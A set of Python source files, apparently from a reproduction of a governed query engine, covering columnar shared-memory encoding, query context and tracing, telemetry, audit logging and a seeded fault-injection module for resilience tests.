class _Writer:
    """Accumulates 8-byte-aligned buffer slices into one payload."""

    def __init__(self) -> None:
        self.chunks: list[bytes] = []
        self.size = 0

    def put(self, data: bytes) -> tuple[int, int]:
        pad = (-self.size) % ALIGNMENT
        if pad:
            self.chunks.append(b"\x00" * pad)
            self.size += pad
        offset = self.size
        self.chunks.append(data)
        self.size += len(data)
        return (offset, len(data))

    def payload(self) -> bytes:
        return b"".join(self.chunks)


def _classify(column: Sequence[Any]) -> str:
    """Pick the narrowest lossless encoding for one column's values."""
    kinds: set[str] = set()
    for value in column:
        if value is None:
            continue
        t = type(value)
        if t is bool:
            kinds.add(KIND_BOOL)
        elif t is int:
            kinds.add(KIND_I8)
            if not (_I8_MIN <= value <= _I8_MAX):
                return KIND_OBJ
        elif t is float:
            kinds.add(KIND_F8)
        elif t is str:
            kinds.add(KIND_STR)
        elif t is bytes:
            kinds.add(KIND_BYTES)
        else:
            return KIND_OBJ
        if len(kinds) > 1:
            # Mixed types (incl. int+float) take the pickle fallback so the
            # round trip preserves exact Python types.
            return KIND_OBJ
    if not kinds:
        return KIND_I8  # all-NULL: any fixed-width kind round-trips
    return kinds.pop()


def _encode_column(column: Sequence[Any], writer: _Writer) -> dict[str, Any]:
    n = len(column)
    kind = _classify(column)
    meta: dict[str, Any] = {"kind": kind, "count": n, "validity": None}

    has_null = any(v is None for v in column)
    if has_null and kind != KIND_OBJ:
        meta["validity"] = writer.put(_pack_bits([v is not None for v in column]))

    if kind == KIND_I8:
        values = array("q", [0 if v is None else v for v in column]) if has_null else array("q", column)
        meta["data"] = writer.put(values.tobytes())
    elif kind == KIND_F8:
        values = array("d", [0.0 if v is None else v for v in column]) if has_null else array("d", column)
        meta["data"] = writer.put(values.tobytes())
    elif kind == KIND_BOOL:
        meta["data"] = writer.put(_pack_bits([bool(v) for v in column]))
    elif kind in (KIND_STR, KIND_BYTES):
        parts = [
            b"" if v is None else (v.encode("utf-8") if kind == KIND_STR else v)
            for v in column
        ]
        offsets = array("q", [0] * (n + 1))
        total = 0
        for i, part in enumerate(parts):
            total += len(part)
            offsets[i + 1] = total
        meta["offsets"] = writer.put(offsets.tobytes())
        meta["payload"] = writer.put(b"".join(parts))
    else:  # KIND_OBJ
        blob = pickle.dumps(list(column), protocol=pickle.HIGHEST_PROTOCOL)
        meta["data"] = writer.put(blob)
        meta["pickled_bytes"] = len(blob)
    return meta


def encode_columns(
    columns: Sequence[Sequence[Any]], num_rows: int | None = None
) -> tuple[dict[str, Any], bytes]:
    """Encode columns into ``(layout metadata, contiguous payload)``.

    The metadata dict is small and control-plane safe (plain ints/strings);
    the payload is the data plane, intended for a shared-memory segment.
    """
    writer = _Writer()
    col_metas = [_encode_column(col, writer) for col in columns]
    if num_rows is None:
        num_rows = len(columns[0]) if columns else 0
    meta = {
        "num_rows": num_rows,
        "columns": col_metas,
        "nbytes": writer.size,
        "pickled_bytes": sum(c.get("pickled_bytes", 0) for c in col_metas),
    }
    return meta, writer.payload()


# ---------------------------------------------------------------------------
# Decoding
# ---------------------------------------------------------------------------


class BufferColumn(Sequence):
    """Zero-copy read view of one encoded column.

    Behaves as an immutable sequence over the decoded values, resolving
    each element against the underlying buffers on access. ``to_list()``
    materializes eagerly through the fast bulk decoder.
    """

    __slots__ = ("kind", "_count", "_get", "_bulk")

    def __init__(
        self,
        kind: str,
        count: int,
        get: Callable[[int], Any],
        bulk: Callable[[], list[Any]],
    ):
        self.kind = kind
        self._count = count
        self._get = get
        self._bulk = bulk

    def __len__(self) -> int:
        return self._count

    def __getitem__(self, index):
        if isinstance(index, slice):
            return [self._get(i) for i in range(*index.indices(self._count))]
        if index < 0:
            index += self._count
        if not 0 <= index < self._count:
            raise IndexError(index)
        return self._get(index)

    def __iter__(self) -> Iterator[Any]:
        get = self._get
        return (get(i) for i in range(self._count))

    def __eq__(self, other: object) -> bool:
        if isinstance(other, (list, tuple, BufferColumn)):
            return len(other) == self._count and all(
                a == b for a, b in zip(self, other)
            )
        return NotImplemented

    def to_list(self) -> list[Any]:
        return self._bulk()

    def __repr__(self) -> str:
        return f"BufferColumn(kind={self.kind}, len={self._count})"


def _slice(buf: memoryview, span: tuple[int, int]) -> memoryview:
    offset, length = span
    return buf[offset : offset + length]


def _decode_column(
    meta: dict[str, Any], buf: memoryview, zero_copy: bool
) -> list[Any] | BufferColumn:
    kind = meta["kind"]
    n = meta["count"]
    validity = (
        _slice(buf, meta["validity"]) if meta.get("validity") is not None else None
    )

    if kind == KIND_OBJ:
        # Pickle fallback: always materialized (views buy nothing here).
        return pickle.loads(_slice(buf, meta["data"]))

    if kind in (KIND_I8, KIND_F8):
        data = _slice(buf, meta["data"]).cast("q" if kind == KIND_I8 else "d")

        def bulk() -> list[Any]:
            values = data.tolist()
            if validity is None:
                return values
            return [
                v if _bit(validity, i) else None for i, v in enumerate(values)
            ]

        def get(i: int) -> Any:
            if validity is not None and not _bit(validity, i):
                return None
            return data[i]

    elif kind == KIND_BOOL:
        data = _slice(buf, meta["data"])

        def bulk() -> list[Any]:
            if validity is None:
                return [bool(_bit(data, i)) for i in range(n)]
            return [
                bool(_bit(data, i)) if _bit(validity, i) else None
                for i in range(n)
            ]

        def get(i: int) -> Any:
            if validity is not None and not _bit(validity, i):
                return None
            return bool(_bit(data, i))

    elif kind in (KIND_STR, KIND_BYTES):
        offsets = _slice(buf, meta["offsets"]).cast("q")
        payload = _slice(buf, meta["payload"])

        def item(i: int) -> Any:
            raw = bytes(payload[offsets[i] : offsets[i + 1]])
            return raw.decode("utf-8") if kind == KIND_STR else raw

        def bulk() -> list[Any]:
            if validity is None:
                return [item(i) for i in range(n)]
            return [item(i) if _bit(validity, i) else None for i in range(n)]

        def get(i: int) -> Any:
            if validity is not None and not _bit(validity, i):
                return None
            return item(i)

    else:  # pragma: no cover - encoder never emits unknown kinds
        raise ValueError(f"unknown buffer kind '{kind}'")

    if zero_copy:
        return BufferColumn(kind, n, get, bulk)
    return bulk()


def decode_columns(
    meta: dict[str, Any], buf, zero_copy: bool = False
) -> list[list[Any] | BufferColumn]:
    """Decode a :func:`encode_columns` layout back into columns.

    With ``zero_copy=True``, fixed-width and string columns come back as
    :class:`BufferColumn` views over ``buf`` (which must stay alive while
    the views are used); otherwise plain lists are materialized and ``buf``
    can be released immediately.
    """
    view = memoryview(buf)
    return [_decode_column(col, view, zero_copy) for col in meta["columns"]]


# ---------------------------------------------------------------------------
# Shared-memory segments + leak guard
# ---------------------------------------------------------------------------

_live_segments: dict[str, shared_memory.SharedMemory] = {}
_live_lock = threading.Lock()


def disable_resource_tracking() -> None:
    """Make this process's resource tracker a no-op (forked workers only).

    A forked worker inherits the driver's tracker wholesale — the pipe fd
    and, worst case, the tracker's internal ``threading.Lock`` *in the held
    state* if the driver forked while another of its threads was mid-
    registration. The child's first ``SharedMemory`` call then deadlocks in
    ``ensure_running``. Workers never own segment cleanup (every segment is
    adopted or released by the driver), so the tracker is pure liability in
    a worker: replace its entry points with no-ops before touching any
    segment. ``shared_memory`` looks the functions up through the module at
    call time, so rebinding here covers it too.
    """

    def _noop(*_args: Any, **_kwargs: Any) -> None:
        return None

    resource_tracker.register = _noop
    resource_tracker.unregister = _noop
    resource_tracker.ensure_running = _noop


def _untrack(shm: shared_memory.SharedMemory) -> None:
    """Undo this process's resource-tracker registration for ``shm``.

    Python 3.11 registers on *attach* as well as create; a process that does
    not own the segment must unregister or the tracker will unlink it twice
    (and warn) at exit.
    """
    try:
        resource_tracker.unregister(shm._name, "shared_memory")  # noqa: SLF001
    except Exception:  # pragma: no cover - tracker may be gone at shutdown
        pass


def create_segment(payload: bytes) -> shared_memory.SharedMemory:
    """Create an owned segment holding ``payload`` (leak-guarded)."""
    shm = shared_memory.SharedMemory(create=True, size=max(1, len(payload)))
    if payload:
        shm.buf[: len(payload)] = payload
    with _live_lock:
        _live_segments[shm.name] = shm
    return shm


def attach_segment(name: str) -> shared_memory.SharedMemory:
    """Map an existing segment without taking ownership of its lifetime."""
    shm = shared_memory.SharedMemory(name=name)
    _untrack(shm)
    return shm


def adopt_segment(name: str) -> shared_memory.SharedMemory:
    """Attach a segment *and* assume responsibility for unlinking it.

    The attach-time resource-tracker registration is kept: ``unlink()``
    unregisters it, so the adopt → release pair stays balanced.
    """
    shm = shared_memory.SharedMemory(name=name)
    with _live_lock:
        _live_segments[shm.name] = shm
    return shm


def transfer_segment(shm: shared_memory.SharedMemory) -> None:
    """Disclaim ownership of a segment this process created.

    Used by workers handing a result segment to the driver: the worker
    closes its mapping, the driver adopts and eventually unlinks.
    """
    _untrack(shm)
    with _live_lock:
        _live_segments.pop(shm.name, None)


def release_segment(
    shm: shared_memory.SharedMemory, unlink: bool = True
) -> None:
    """Close a mapping and (for owned segments) unlink the backing memory."""
    with _live_lock:
        _live_segments.pop(shm.name, None)
    try:
        shm.close()
    except BufferError:  # pragma: no cover - exported views still alive
        pass
    if unlink:
        try:
            shm.unlink()
        except FileNotFoundError:
            pass


def live_segment_names() -> list[str]:
    """Names of segments this process still owns (test leak assertion)."""
    with _live_lock:
        return sorted(_live_segments)


@atexit.register
def _cleanup_segments() -> None:  # pragma: no cover - interpreter shutdown
    with _live_lock:
        leaked = list(_live_segments.values())
        _live_segments.clear()
    for shm in leaked:
        try:
            shm.close()
            shm.unlink()
        except Exception:
            pass
