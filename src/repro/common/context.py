"""The per-query identity thread: :class:`QueryContext`.

One ``QueryContext`` is created per Connect operation (or per direct backend
call) and threaded through every layer — enforcement, optimization,
execution, sandbox dispatch, credential vending, the serverless gateway — so
every span and every governance decision is attributed to one trace and one
user.

Two propagation mechanisms cooperate:

- **explicit threading** where a layer boundary already passes state
  (pipeline stages, ``EvalContext.query_ctx``, ``execute_relation``), and
- an **ambient context** (a :mod:`contextvars` variable, maintained by
  :meth:`QueryContext.span` / :meth:`QueryContext.activate`) for leaf
  components like the credential vendor that sit far below any signature
  that carries a context — exactly how in-process OpenTelemetry propagates.

Across the wire, the trace id travels as a protocol extension field on
``execute_plan`` requests, so ReattachExecute after a dropped connection
rejoins the same trace.
"""

from __future__ import annotations

import contextvars
from contextlib import contextmanager, nullcontext
from dataclasses import dataclass, field
from typing import Any, ContextManager, Iterator

from repro.common.clock import Clock, SystemClock
from repro.common.ids import new_id
from repro.common.telemetry import Span, Telemetry
from repro.errors import ExecutionError


class QueryDeadlineExceeded(ExecutionError):
    """The query's deadline elapsed before the pipeline finished."""


_CURRENT: contextvars.ContextVar["QueryContext | None"] = contextvars.ContextVar(
    "lakeguard_query_context", default=None
)


def current_context() -> "QueryContext | None":
    """The ambient query context, if one is active on this thread of work."""
    return _CURRENT.get()


@dataclass
class QueryContext:
    """Identity + trace + clock + deadline for one query execution."""

    trace_id: str
    user: str
    telemetry: Telemetry
    clock: Clock
    session_id: str = ""
    cluster_id: str = ""
    operation_id: str = ""
    #: Absolute clock time after which pipeline stages refuse to start.
    deadline: float | None = None
    #: Span id a root span of this context should parent onto (used when a
    #: child context crosses a component boundary, e.g. the gateway).
    parent_span_id: str | None = None
    #: The admission ticket this query holds (set by the Connect service
    #: after the WorkloadManager admitted it). Deliberately *not* inherited
    #: by :meth:`child` contexts: delegated work (eFGAC sub-plans, scan
    #: tasks) runs under the parent's slot, not a second one.
    ticket: Any = None
    _span_stack: list[Span] = field(default_factory=list)

    # -- construction ---------------------------------------------------------------

    @classmethod
    def create(
        cls,
        user: str,
        telemetry: Telemetry | None = None,
        clock: Clock | None = None,
        trace_id: str | None = None,
        session_id: str = "",
        cluster_id: str = "",
        operation_id: str = "",
        deadline_seconds: float | None = None,
        parent_span_id: str | None = None,
    ) -> "QueryContext":
        clock = clock or (telemetry.clock if telemetry is not None else SystemClock())
        deadline = None
        if deadline_seconds is not None:
            deadline = clock.now() + deadline_seconds
        return cls(
            trace_id=trace_id or new_id("trace"),
            user=user,
            telemetry=(
                telemetry if telemetry is not None else Telemetry(clock=clock)
            ),
            clock=clock,
            session_id=session_id,
            cluster_id=cluster_id,
            operation_id=operation_id,
            deadline=deadline,
            parent_span_id=parent_span_id,
        )

    def child(
        self,
        user: str | None = None,
        session_id: str | None = None,
        cluster_id: str | None = None,
        operation_id: str | None = None,
    ) -> "QueryContext":
        """A context for work delegated to another component, same trace.

        The child's root spans parent onto this context's current span, so
        e.g. an eFGAC sub-plan executed on a serverless cluster appears as a
        subtree of the dedicated-cluster query that submitted it.
        """
        return QueryContext(
            trace_id=self.trace_id,
            user=user if user is not None else self.user,
            telemetry=self.telemetry,
            clock=self.clock,
            session_id=session_id if session_id is not None else self.session_id,
            cluster_id=cluster_id if cluster_id is not None else self.cluster_id,
            operation_id=operation_id if operation_id is not None else self.operation_id,
            deadline=self.deadline,
            parent_span_id=self.current_span_id,
        )

    # -- span tree ------------------------------------------------------------------

    @property
    def current_span(self) -> Span | None:
        return self._span_stack[-1] if self._span_stack else None

    @property
    def current_span_id(self) -> str | None:
        span = self.current_span
        return span.span_id if span is not None else self.parent_span_id

    @contextmanager
    def span(self, name: str, kind: str, **attributes: Any) -> Iterator[Span]:
        """Open a child span; it becomes the ambient parent while active."""
        span = self.telemetry.start_span(
            name,
            kind,
            trace_id=self.trace_id,
            parent_id=self.current_span_id,
            user=self.user,
            **attributes,
        )
        if self.cluster_id and "cluster" not in span.attributes:
            span.attributes["cluster"] = self.cluster_id
        self._span_stack.append(span)
        token = _CURRENT.set(self)
        try:
            yield span
        except BaseException:
            self._close_span(span, status="error")
            _CURRENT.reset(token)
            raise
        else:
            self._close_span(span, status="ok")
            _CURRENT.reset(token)

    def _close_span(self, span: Span, status: str) -> None:
        # Remove by identity rather than strict LIFO pop: spans opened
        # around generators can legally outlive later siblings.
        try:
            self._span_stack.remove(span)
        except ValueError:
            pass
        self.telemetry.finish_span(span, status=status)

    @contextmanager
    def activate(self) -> Iterator["QueryContext"]:
        """Install this context as the ambient one without opening a span."""
        token = _CURRENT.set(self)
        try:
            yield self
        finally:
            _CURRENT.reset(token)

    # -- annotations ----------------------------------------------------------------

    def event(self, name: str, **attributes: Any) -> None:
        """Attach a point-in-time event to the current span (no-op if none)."""
        span = self.current_span
        if span is not None:
            from repro.common.telemetry import SpanEvent

            span.events.append(
                SpanEvent(self.clock.now(), name, dict(attributes))
            )

    def set_attribute(self, key: str, value: Any) -> None:
        span = self.current_span
        if span is not None:
            span.set_attribute(key, value)

    # -- deadline -------------------------------------------------------------------

    def remaining(self) -> float | None:
        """Seconds until the deadline (negative if past); None if unset."""
        if self.deadline is None:
            return None
        return self.deadline - self.clock.now()

    def check_deadline(self, where: str = "") -> None:
        remaining = self.remaining()
        if remaining is not None and remaining <= 0:
            raise QueryDeadlineExceeded(
                f"query {self.trace_id} exceeded its deadline"
                + (f" before {where}" if where else "")
            )


def span_or_null(
    ctx: "QueryContext | None", name: str, kind: str, **attributes: Any
) -> ContextManager[Any]:
    """``ctx.span(...)`` when a context is available, else a no-op block."""
    if ctx is None:
        return nullcontext()
    return ctx.span(name, kind, **attributes)
