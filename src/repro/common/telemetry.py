"""The tracing and metrics spine.

Every enforcement decision and execution phase in the system is recorded as a
:class:`Span` in one shared :class:`Telemetry` registry — the observable
enforcement path the paper's audit story (§3.2.3) implies and Fig. 5's phase
breakdown requires. Spans nest (parent/child) into per-query trace trees;
counters and histograms aggregate across queries.

Exporters are pluggable: the in-memory exporter keeps spans queryable for
tests and the ``system.access.query_profile`` table; the JSON-lines exporter
streams finished spans to a file for benchmarks and offline analysis.
"""

from __future__ import annotations

import json
import threading
from dataclasses import dataclass, field
from typing import Any, Iterator, Protocol

from repro.common.clock import Clock, SystemClock
from repro.common.ids import new_id


@dataclass
class SpanEvent:
    """A point-in-time annotation inside a span (e.g. a policy decision)."""

    timestamp: float
    name: str
    attributes: dict[str, Any] = field(default_factory=dict)


@dataclass
class Span:
    """One timed unit of work, attributed to a user and a trace."""

    trace_id: str
    span_id: str
    parent_id: str | None
    name: str
    kind: str
    user: str
    start: float
    end: float | None = None
    status: str = "ok"
    attributes: dict[str, Any] = field(default_factory=dict)
    events: list[SpanEvent] = field(default_factory=list)

    @property
    def finished(self) -> bool:
        return self.end is not None

    @property
    def duration(self) -> float:
        """Seconds between start and end (0 while the span is open)."""
        return 0.0 if self.end is None else self.end - self.start

    def set_attribute(self, key: str, value: Any) -> None:
        self.attributes[key] = value

    def to_dict(self) -> dict[str, Any]:
        """JSON-serializable form (the JSON-lines exporter's record)."""
        return {
            "trace_id": self.trace_id,
            "span_id": self.span_id,
            "parent_id": self.parent_id,
            "name": self.name,
            "kind": self.kind,
            "user": self.user,
            "start": self.start,
            "end": self.end,
            "status": self.status,
            "attributes": dict(self.attributes),
            "events": [
                {"timestamp": e.timestamp, "name": e.name, "attributes": e.attributes}
                for e in self.events
            ],
        }


class SpanExporter(Protocol):
    """Receives every span exactly once, at finish time."""

    def export(self, span: Span) -> None: ...


class InMemoryExporter:
    """Collects finished spans in order (the default test sink)."""

    def __init__(self) -> None:
        self.spans: list[Span] = []

    def export(self, span: Span) -> None:
        self.spans.append(span)


class JsonLinesExporter:
    """Appends one JSON object per finished span to a file."""

    def __init__(self, path: str):
        self.path = path

    def export(self, span: Span) -> None:
        with open(self.path, "a", encoding="utf-8") as fh:
            fh.write(json.dumps(span.to_dict(), default=str) + "\n")


class Counter:
    """A monotonically increasing named counter."""

    def __init__(self, name: str):
        self.name = name
        self.value = 0

    def inc(self, amount: int = 1) -> None:
        self.value += amount


class Gauge:
    """A point-in-time level (queue depth, slots in use, breaker state).

    Unlike a :class:`Counter` it can go down; ``high_water`` remembers the
    maximum level ever set, which is what capacity dashboards plot.
    """

    def __init__(self, name: str):
        self.name = name
        self.value = 0.0
        self.high_water = 0.0

    def set(self, value: float) -> None:
        """Replace the level and update the high-water mark."""
        self.value = float(value)
        self.high_water = max(self.high_water, self.value)

    def inc(self, amount: float = 1.0) -> None:
        """Raise the level by ``amount``."""
        self.set(self.value + amount)

    def dec(self, amount: float = 1.0) -> None:
        """Lower the level by ``amount`` (may go negative if misused)."""
        self.value -= amount


class Histogram:
    """A value distribution (span durations, payload sizes, batch rows)."""

    def __init__(self, name: str):
        self.name = name
        self._values: list[float] = []

    def observe(self, value: float) -> None:
        self._values.append(float(value))

    @property
    def count(self) -> int:
        return len(self._values)

    @property
    def total(self) -> float:
        return sum(self._values)

    def percentile(self, p: float) -> float:
        """The p-th percentile (0..100) of observed values; 0.0 when empty."""
        if not self._values:
            return 0.0
        ordered = sorted(self._values)
        rank = min(len(ordered) - 1, max(0, round(p / 100.0 * (len(ordered) - 1))))
        return ordered[rank]


class Telemetry:
    """Span recorder plus counter/histogram registry for one deployment.

    One instance is shared by every component that serves the same catalog
    (clusters, the serverless gateway, the credential vendor), so an eFGAC
    sub-plan executed on serverless compute lands in the same registry — and
    the same trace tree — as the dedicated-cluster query that spawned it.
    """

    def __init__(self, clock: Clock | None = None, exporters: tuple[SpanExporter, ...] = ()):
        self.clock = clock or SystemClock()
        self._memory = InMemoryExporter()
        self._exporters: list[SpanExporter] = [self._memory, *exporters]
        self._open: dict[str, Span] = {}
        self._counters: dict[str, Counter] = {}
        self._gauges: dict[str, Gauge] = {}
        self._histograms: dict[str, Histogram] = {}
        # Scan tasks and forked operator subtrees finish spans and bump
        # counters from worker threads; one registry lock keeps the open-span
        # map, the metric registries, and export ordering consistent.
        self._lock = threading.Lock()

    # -- spans ----------------------------------------------------------------------

    def start_span(
        self,
        name: str,
        kind: str,
        trace_id: str,
        parent_id: str | None = None,
        user: str = "<system>",
        **attributes: Any,
    ) -> Span:
        """Open a span; the caller owns closing it via :meth:`finish_span`."""
        span = Span(
            trace_id=trace_id,
            span_id=new_id("span"),
            parent_id=parent_id,
            name=name,
            kind=kind,
            user=user,
            start=self.clock.now(),
            attributes=dict(attributes),
        )
        with self._lock:
            self._open[span.span_id] = span
        return span

    def finish_span(self, span: Span, status: str = "ok") -> Span:
        """Stamp the end time, record the duration histogram, and export."""
        with self._lock:
            if span.finished:
                return span
            span.end = self.clock.now()
            span.status = status
            self._open.pop(span.span_id, None)
            self._histogram_locked(f"span.{span.kind}.seconds").observe(
                span.duration
            )
            for exporter in self._exporters:
                exporter.export(span)
            return span

    def add_exporter(self, exporter: SpanExporter) -> None:
        self._exporters.append(exporter)

    # -- querying -------------------------------------------------------------------

    def spans(
        self,
        trace_id: str | None = None,
        kind: str | None = None,
        name: str | None = None,
        user: str | None = None,
    ) -> list[Span]:
        """Finished spans matching all provided filters, in finish order."""
        out = []
        for span in self._memory.spans:
            if trace_id is not None and span.trace_id != trace_id:
                continue
            if kind is not None and span.kind != kind:
                continue
            if name is not None and span.name != name:
                continue
            if user is not None and span.user != user:
                continue
            out.append(span)
        return out

    def trace_ids(self) -> list[str]:
        """Distinct trace ids in first-seen order."""
        seen: dict[str, None] = {}
        for span in self._memory.spans:
            seen.setdefault(span.trace_id, None)
        return list(seen)

    def span_kinds(self, trace_id: str) -> set[str]:
        return {s.kind for s in self.spans(trace_id=trace_id)}

    def trace_tree(self, trace_id: str) -> str:
        """Render one trace as an indented tree (debugging/benchmarks)."""
        spans = sorted(self.spans(trace_id=trace_id), key=lambda s: s.start)
        children: dict[str | None, list[Span]] = {}
        span_ids = {s.span_id for s in spans}
        for span in spans:
            parent = span.parent_id if span.parent_id in span_ids else None
            children.setdefault(parent, []).append(span)
        lines: list[str] = []

        def render(parent: str | None, depth: int) -> None:
            for span in children.get(parent, []):
                lines.append(
                    f"{'  ' * depth}{span.name} [{span.kind}] "
                    f"user={span.user} {span.duration * 1000:.3f}ms"
                )
                render(span.span_id, depth + 1)

        render(None, 0)
        return "\n".join(lines)

    def __iter__(self) -> Iterator[Span]:
        return iter(self._memory.spans)

    def __len__(self) -> int:
        return len(self._memory.spans)

    def __bool__(self) -> bool:
        """A registry is always truthy, even before any span finishes."""
        return True

    # -- metrics --------------------------------------------------------------------

    def counter(self, name: str) -> Counter:
        with self._lock:
            counter = self._counters.get(name)
            if counter is None:
                counter = self._counters[name] = Counter(name)
            return counter

    def gauge(self, name: str) -> Gauge:
        """The named gauge, created on first use."""
        with self._lock:
            gauge = self._gauges.get(name)
            if gauge is None:
                gauge = self._gauges[name] = Gauge(name)
            return gauge

    def histogram(self, name: str) -> Histogram:
        with self._lock:
            return self._histogram_locked(name)

    def _histogram_locked(self, name: str) -> Histogram:
        histogram = self._histograms.get(name)
        if histogram is None:
            histogram = self._histograms[name] = Histogram(name)
        return histogram

    def counters(self) -> dict[str, int]:
        return {name: c.value for name, c in self._counters.items()}

    def gauges(self) -> dict[str, float]:
        """Current level of every gauge, by name."""
        return {name: g.value for name, g in self._gauges.items()}
