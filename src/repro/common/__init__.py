"""Shared low-level utilities: clocks, id generation, audit events."""

from repro.common.clock import Clock, SystemClock, VirtualClock
from repro.common.ids import new_id
from repro.common.audit import AuditEvent, AuditLog

__all__ = [
    "Clock",
    "SystemClock",
    "VirtualClock",
    "new_id",
    "AuditEvent",
    "AuditLog",
]
