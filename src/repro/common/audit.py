"""Audit events.

Every governance-relevant action — privilege check, credential vend, query
submission, sandbox creation, egress attempt — is recorded as an
:class:`AuditEvent`. The paper stresses that multi-user compute enables "full
auditing of all individual user actions" (§3.2.3); the audit log is where that
materializes in this reproduction.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Any, Callable, Iterator


@dataclass(frozen=True)
class AuditEvent:
    """One immutable audit record."""

    timestamp: float
    principal: str
    action: str
    resource: str
    allowed: bool
    details: dict[str, Any] = field(default_factory=dict)

    def __str__(self) -> str:  # pragma: no cover - debugging convenience
        verdict = "ALLOW" if self.allowed else "DENY"
        return (
            f"[{self.timestamp:.3f}] {verdict} {self.principal} "
            f"{self.action} {self.resource} {self.details}"
        )


class AuditLog:
    """Append-only in-memory audit log with simple querying."""

    def __init__(self) -> None:
        self._events: list[AuditEvent] = []

    def record(
        self,
        timestamp: float,
        principal: str,
        action: str,
        resource: str,
        allowed: bool,
        **details: Any,
    ) -> AuditEvent:
        """Append one event; extra keyword arguments become details."""
        event = AuditEvent(
            timestamp=timestamp,
            principal=principal,
            action=action,
            resource=resource,
            allowed=allowed,
            details=details,
        )
        self._events.append(event)
        return event

    def __len__(self) -> int:
        return len(self._events)

    def __iter__(self) -> Iterator[AuditEvent]:
        return iter(self._events)

    def events(
        self,
        principal: str | None = None,
        action: str | None = None,
        allowed: bool | None = None,
        predicate: Callable[[AuditEvent], bool] | None = None,
    ) -> list[AuditEvent]:
        """Return events matching all provided filters."""
        out = []
        for event in self._events:
            if principal is not None and event.principal != principal:
                continue
            if action is not None and event.action != action:
                continue
            if allowed is not None and event.allowed != allowed:
                continue
            if predicate is not None and not predicate(event):
                continue
            out.append(event)
        return out

    def denials(self, principal: str | None = None) -> list[AuditEvent]:
        """All DENY events, optionally for one principal."""
        return self.events(principal=principal, allowed=False)
