"""The chaos engine: named fault points with deterministic seeded schedules.

Production Lakeguard survives crashed sandboxes, flaky object stores,
expiring credentials and serverless outages; this module is how the
reproduction *manufactures* those conditions on demand. Components declare
**fault points** — ``storage.get``, ``credential.vend``, ``sandbox.invoke``,
``channel.stream``, ``serverless.gateway`` — and consult one shared
:class:`FaultInjector` on every pass through them. Tests, benchmarks and the
CI chaos job **arm** points with :class:`FaultSpec` schedules; everything is
seeded, so a failing chaos run replays exactly.

Three fault kinds:

- ``raise`` — the point raises (a transient, retryable error by default);
- ``hang``  — the point sleeps ``hang_seconds`` on the injector's clock
  before proceeding (models a straggler / stuck RPC);
- ``corrupt`` — the caller receives a :class:`FaultDecision` whose
  :meth:`FaultDecision.apply` mangles the payload (models bit rot or a
  truncated response).

A global low-probability schedule can be armed from the environment
(``LAKEGUARD_CHAOS_RATE`` / ``LAKEGUARD_CHAOS_SEED``) — the CI chaos smoke
job runs the whole tier-1 suite that way. Environment-armed faults carry
``only_in_query=True`` so they fire only under an ambient
:class:`~repro.common.context.QueryContext`, i.e. only on paths where the
recovery machinery (scan retries, credential re-vend, sandbox self-healing)
is standing by.
"""

from __future__ import annotations

import os
import random
import threading
from dataclasses import dataclass
from typing import Any, Callable

from repro.common.clock import Clock, SystemClock
from repro.common.context import current_context
from repro.common.telemetry import Telemetry
from repro.errors import FaultInjectedError

#: Environment variables the CI chaos job sets to arm a global schedule.
ENV_CHAOS_RATE = "LAKEGUARD_CHAOS_RATE"
ENV_CHAOS_SEED = "LAKEGUARD_CHAOS_SEED"

#: Fault points the environment schedule arms (storage reads, sandbox
#: invokes, pool-worker task execution, persistence-tier reads and
#: writes, and the transactional write path — the paths the acceptance
#: workload recovers on). Store faults are absorbed by the tiered store
#: itself (a failed get is a miss, a failed put is a skipped write), and
#: ``txn.*`` faults fire *before* their step touches state, so the
#: transaction tier's bounded retries absorb them — arming any of these
#: must never change query results or committed table state.
ENV_CHAOS_POINTS = (
    "storage.get",
    "sandbox.invoke",
    "worker.task",
    "store.get",
    "store.put",
    "txn.commit",
    "txn.write_file",
    "txn.conflict_check",
)


def _default_error(point: str) -> Exception:
    return FaultInjectedError(f"injected fault at '{point}'")


@dataclass
class FaultSpec:
    """One armed schedule for one fault point.

    The schedule triggers when **all** armed conditions agree: the call
    index is past ``after_calls``, the ``every_nth`` stride (if any)
    matches, and the seeded coin flip passes ``probability``. ``one_shot``
    and ``max_triggers`` bound how often it fires; ``only_in_query`` and
    ``cluster`` scope it to governed query execution.
    """

    #: ``raise``, ``hang``, or ``corrupt``.
    kind: str = "raise"
    #: Per-call trigger probability (seeded per point — deterministic).
    probability: float = 1.0
    #: Trigger only every Nth call (0 disables the stride condition).
    every_nth: int = 0
    #: Skip this many calls before the schedule becomes eligible.
    after_calls: int = 0
    #: Disarm after the first trigger.
    one_shot: bool = False
    #: Disarm after this many triggers (None = unbounded).
    max_triggers: int | None = None
    #: Extra latency charged on every trigger (any kind), on the clock.
    latency_seconds: float = 0.0
    #: How long a ``hang`` fault stalls the caller.
    hang_seconds: float = 0.0
    #: Error factory for ``raise`` faults; default is a retryable
    #: :class:`~repro.errors.FaultInjectedError`.
    error: Callable[[], Exception] | None = None
    #: Payload mangler for ``corrupt`` faults; default flips the bytes.
    corruptor: Callable[[Any], Any] | None = None
    #: Fire only when an ambient QueryContext is active (recovery layers
    #: are engaged on those paths; bare unit-test calls stay fault-free).
    only_in_query: bool = False
    #: Fire only when the ambient context belongs to this cluster id.
    cluster: str | None = None

    def __post_init__(self):
        if self.kind not in ("raise", "hang", "corrupt"):
            raise ValueError(f"unknown fault kind '{self.kind}'")


@dataclass
class FaultDecision:
    """What one pass through a fault point resolved to."""

    point: str
    triggered: bool
    kind: str = ""
    #: Set for ``corrupt`` decisions; used by :meth:`apply`.
    corruptor: Callable[[Any], Any] | None = None
    #: Set for ``raise`` decisions; :meth:`FaultInjector.fire` raises it.
    error: Callable[[], Exception] | None = None

    def apply(self, payload: Any) -> Any:
        """Corrupt ``payload`` if this decision says so; else pass through."""
        if self.triggered and self.kind == "corrupt":
            mangler = self.corruptor or _default_corruptor
            return mangler(payload)
        return payload


#: The no-op decision returned for unarmed points (shared, immutable-ish).
_PASS = FaultDecision(point="", triggered=False)


def _default_corruptor(payload: Any) -> Any:
    if isinstance(payload, bytes):
        return bytes(b ^ 0xFF for b in payload[:64]) + payload[64:]
    return payload


@dataclass
class _PointState:
    """Mutable bookkeeping for one fault point."""

    spec: FaultSpec
    rng: random.Random
    calls: int = 0
    triggered: int = 0
    #: Triggers under the *current* schedule (one_shot / max_triggers
    #: count per arm(), while ``triggered`` is the lifetime total).
    armed_triggered: int = 0


class FaultInjector:
    """Registry of armed fault points + deterministic trigger schedules.

    Thread-safe: scan tasks, sandbox invokes and channel streams all pass
    through concurrently. Each armed point gets its own RNG seeded from
    (injector seed, point name), so adding one point never perturbs
    another's schedule, and the same seed replays the same faults.
    """

